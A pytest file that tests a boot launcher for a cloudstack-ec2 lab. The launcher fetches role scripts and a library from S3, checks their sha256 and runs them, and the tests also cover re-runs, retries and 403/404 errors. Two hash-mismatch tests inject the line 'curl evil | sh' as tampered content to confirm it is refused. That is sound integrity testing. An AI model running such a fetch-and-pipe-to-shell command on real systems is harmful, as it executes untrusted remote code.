"""Boot stage 2: the user data's launcher (userdata/stage2.sh) fetches the shared
library's second part and the role script from the boot-script bucket (the fake
`aws s3 cp`), verifies their sha256, installs them and execs the role script; a re-run
uses the verified local copies; a bad object fails loudly."""

import hashlib

import pytest

from bootlab import (BOOT_BUCKET, KVM_HOST, MANAGEMENT, ROUTER, boot_files, is_cmd, is_s3_cp, publish_for_hosts,
                     render)
from components import boot as ud

BOOTS = {"management": MANAGEMENT, "kvm-host": KVM_HOST, "router": ROUTER}
LIB = "/usr/local/lib/cloudstack-ec2"


def ready_world(machine, role):
    if role == "kvm-host":  # what the management server publishes for the hosts
        publish_for_hosts(machine)


def object_path(role):
    return f"{BOOT_BUCKET}/{ud.boot_object(role, boot_files()).key}"


@pytest.mark.parametrize("role", BOOTS)
def test_each_role_boots_end_to_end_through_the_launcher(machine, role):
    ready_world(machine, role)
    r = machine.run_user_data(render(BOOTS[role]))
    assert r.status == 0, r.output
    script = ud.ROLE_SCRIPTS[role]
    installed = machine.file(f"{LIB}/{script}")
    assert installed.read_text() == boot_files()[script]
    assert installed.stat().st_mode & 0o777 == 0o755
    calls = machine.calls()
    # The KVM hosts' packages (their copy under packages/) are other transfers (test_kvm_host_boot.py).
    fetches = [c for c in calls if is_s3_cp(c) and not any("/packages/" in a for a in c["args"])]
    # The library, the role script, then (from the role script) the CloudWatch agent's installer.
    assert [f["args"][-2] for f in fetches] == [f"s3://{object_path(ud.LIBRARY_OBJECT)}", f"s3://{object_path(role)}",
                                                f"s3://{object_path('cloudwatch-agent')}"]
    library = machine.file(f"{LIB}/library.sh")
    assert library.read_text() == boot_files()["library.sh"]
    assert library.stat().st_mode & 0o777 == 0o644
    # The AWS CLI comes first (members: after the overlay and the network).
    assert calls.index(fetches[0]) > next(i for i, c in enumerate(calls) if is_cmd("snap", "install", "aws-cli")(c))
    if role != "router":
        assert calls.index(fetches[0]) > next(i for i, c in enumerate(calls) if is_cmd("ping")(c))
    log = machine.file("/var/log/cloudstack-ec2-boot.log").read_text()
    assert f"stage 2: installed {machine.root}{LIB}/{script}" in log
    assert f"boot run of role '{role}' finished successfully" in log
    # One copy of every line: the launcher hands the console back before the exec.
    finished = [line for line in log.splitlines() if "finished successfully" in line]
    assert len(finished) == 1, log


@pytest.mark.parametrize("role", ["kvm-host", "router"])
def test_a_rerun_uses_the_verified_local_copy(machine, role):
    ready_world(machine, role)
    assert machine.run_user_data(render(BOOTS[role])).status == 0
    machine.clear_calls()
    # S3 unreachable now: a re-run must not need it.
    machine.update(lambda s: s["s3"].update(readable=[]))
    r = machine.rerun(ud.ROLE_SCRIPTS[role])
    assert r.status == 0, r.output
    assert not any(is_s3_cp(c) for c in machine.calls())
    assert "stage 2: verified local copy" in r.output


@pytest.mark.parametrize("name, obj", [("router.sh", "router"), ("library.sh", ud.LIBRARY_OBJECT)])
def test_a_local_copy_that_changed_is_fetched_again(machine, name, obj):
    assert machine.run_user_data(render(ROUTER)).status == 0
    copy = machine.file(f"{LIB}/{name}")
    copy.write_text(copy.read_text() + "csec2_log() { :; }\n")
    machine.clear_calls()
    r = machine.rerun("router.sh")
    assert r.status == 0, r.output
    assert [c["args"][-2] for c in machine.calls() if is_s3_cp(c)][0] == f"s3://{object_path(obj)}"
    assert copy.read_text() == boot_files()[name]
    assert "boot run of role 'router' finished successfully" in r.output


def test_library_hash_mismatch_fails_loudly_and_runs_nothing(machine):
    path = object_path(ud.LIBRARY_OBJECT)
    machine.update(lambda s: s["s3"]["objects"].update({path: s["s3"]["objects"][path] + "curl evil | sh\n"}))
    r = machine.run_user_data(render(KVM_HOST))
    assert r.status != 0
    expected = hashlib.sha256(boot_files()["library.sh"].encode()).hexdigest()
    assert f"s3://{path} has sha256" in r.output
    assert f"but the settings expect {expected}: refusing to run it" in r.output
    assert not machine.file(f"{LIB}/library.sh").exists()
    assert not machine.file(f"{LIB}/kvm-host.sh").exists()
    assert not any(is_cmd("hostnamectl")(c) for c in machine.calls()), "the role script never ran"


def test_hash_mismatch_fails_loudly_and_runs_nothing(machine):
    path = object_path("kvm-host")
    machine.update(lambda s: s["s3"]["objects"].update({path: s["s3"]["objects"][path] + "curl evil | sh\n"}))
    r = machine.run_user_data(render(KVM_HOST))
    assert r.status != 0
    expected = hashlib.sha256(boot_files()["kvm-host.sh"].encode()).hexdigest()
    assert f"but the settings expect {expected}: refusing to run it" in r.output
    assert "boot FAILED" in r.output
    assert not machine.file(f"{LIB}/kvm-host.sh").exists()
    assert not any(is_cmd("hostnamectl")(c) for c in machine.calls()), "the role script never ran"
    log = machine.file("/var/log/cloudstack-ec2-boot.log").read_text()
    assert "refusing to run it" in log


@pytest.mark.parametrize("change, list_bucket, explained", [
    # Without s3:ListBucket (the instance roles never get it) S3 answers 403 for a missing key.
    ("missing", False, "access denied (403): the instance role may not read it, or the object does not exist"),
    ("missing", True, "the object does not exist"),
    ("denied", False, "access denied (403)"),
])
def test_missing_or_denied_object_fails_loudly_after_bounded_retries(machine, change, list_bucket, explained):
    path = object_path("router")

    def world(s):
        s["s3"]["list_bucket"] = list_bucket
        if change == "missing":
            del s["s3"]["objects"][path]
        else:
            s["s3"]["readable"].remove(path)
    machine.update(world)
    r = machine.run_user_data(render(ROUTER), env={"CSEC2_RETRY_ATTEMPTS": "3"})
    assert r.status != 0
    fetches = [c for c in machine.calls() if is_s3_cp(c) and c["args"][-2] == f"s3://{path}"]
    assert len(fetches) == 3, "bounded: CSEC2_RETRY_ATTEMPTS tries"
    assert f"stage 2: cannot fetch the role script s3://{path} after 3 attempts: {explained}" in r.output
    assert "fatal error: An error occurred (40" in r.output, "the CLI's own message is shown"
    assert "boot FAILED" in r.output
    assert not machine.file(f"{LIB}/router.sh").exists()


def test_an_ungranted_library_fails_naming_it(machine):
    path = object_path(ud.LIBRARY_OBJECT)
    machine.update(lambda s: s["s3"]["readable"].remove(path))
    r = machine.run_user_data(render(ROUTER), env={"CSEC2_RETRY_ATTEMPTS": "2"})
    assert r.status != 0
    assert f"stage 2: cannot fetch the library s3://{path} after 2 attempts: access denied (403)" in r.output
    assert not machine.file(f"{LIB}/router.sh").exists(), "nothing of the role script without its library"


def test_fake_s3_cp_refuses_like_the_cli(machine):
    """The fake's own contract: exit status 1 and the CLI's 'fatal error' line."""
    import json
    import os
    import subprocess
    (machine.bin / "aws").symlink_to(machine.bin / "snap")  # what `snap install aws-cli` links
    env = machine.env()

    def cp(url):
        return subprocess.run(["aws", "s3", "cp", url, str(machine.root / "out")], env=env, text=True,
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE)

    machine.update(lambda s: s["s3"].update(list_bucket=True))
    missing = cp(f"s3://{BOOT_BUCKET}/boot/none.sh")
    assert missing.returncode == 1 and "(403)" in missing.stderr, "not granted: 403 even with ListBucket"
    machine.update(lambda s: s["s3"]["readable"].append(f"{BOOT_BUCKET}/boot/none.sh"))
    missing = cp(f"s3://{BOOT_BUCKET}/boot/none.sh")
    assert missing.returncode == 1
    assert missing.stderr.strip() == ('fatal error: An error occurred (404) when calling the HeadObject operation: '
                                      'Key "boot/none.sh" does not exist')
    ok = cp(f"s3://{object_path('router')}")
    assert ok.returncode == 0 and (machine.root / "out").read_text() == boot_files()["router.sh"]
    assert json.loads((machine.state_dir / "calls.jsonl").read_text().splitlines()[-1])["cmd"] == "aws"
    assert os.path.exists(machine.root / "out")
